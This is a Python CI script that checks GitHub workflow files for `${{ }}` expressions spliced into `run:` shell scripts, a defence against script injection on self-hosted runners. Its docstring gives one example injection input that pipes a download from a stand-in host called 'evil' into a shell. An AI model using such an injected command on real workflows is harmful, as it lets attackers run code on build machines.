#!/usr/bin/env python3
"""No workflow expression inside a shell script: every `${{ ... }}` a GitHub workflow's `run:`
would otherwise splice into the script (where an input like `x"; curl evil | sh; "` becomes
code on a self-hosted GPU runner) is handed to it through `env:` instead, and the script
quotes the variable.

    ci/check-workflows.py [FILE ...]   (default: .github/workflows/*.yml)

Reads each file as lines (no YAML library needed): a `run:` value, inline or the block under
it (every line indented deeper than the key), must hold no `${{`.

Exit status: 0 none found; 1 some found (each printed as file:line); 2 a file cannot be read.
"""
from __future__ import annotations

import re
import sys
from pathlib import Path

RUN_KEY = re.compile(r"^(?P<indent>\s*)(?:-\s+)?run:\s*(?P<value>.*)$")


def findings(path: Path) -> list[str]:
    lines = path.read_text(encoding="utf-8").splitlines()
    out = []
    i = 0
    while i < len(lines):
        m = RUN_KEY.match(lines[i])
        if not m:
            i += 1
            continue
        key_indent = len(m.group("indent"))
        script = [(i, m.group("value"))]
        j = i + 1
        if m.group("value").strip()[:1] in ("|", ">"):
            while j < len(lines) and (not lines[j].strip() or
                                      len(lines[j]) - len(lines[j].lstrip()) > key_indent):
                script.append((j, lines[j]))
                j += 1
        for n, text in script:
            if "${{" in text:
                out.append(f"{path}:{n + 1}: a workflow expression inside run: (pass it through env: "
                           f"and quote the variable): {text.strip()}")
        i = j
    return out


def main(argv: list[str]) -> int:
    root = Path(__file__).resolve().parent.parent
    files = [Path(a) for a in argv] or sorted((root / ".github" / "workflows").glob("*.yml"))
    found = []
    try:
        for f in files:
            found += findings(f)
    except (OSError, UnicodeDecodeError) as e:
        print(f"check-workflows: {e}", file=sys.stderr)
        return 2
    for line in found:
        print(line, file=sys.stderr)
    if not found:
        print(f"check-workflows: {len(files)} workflows, no expression inside a run: script")
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
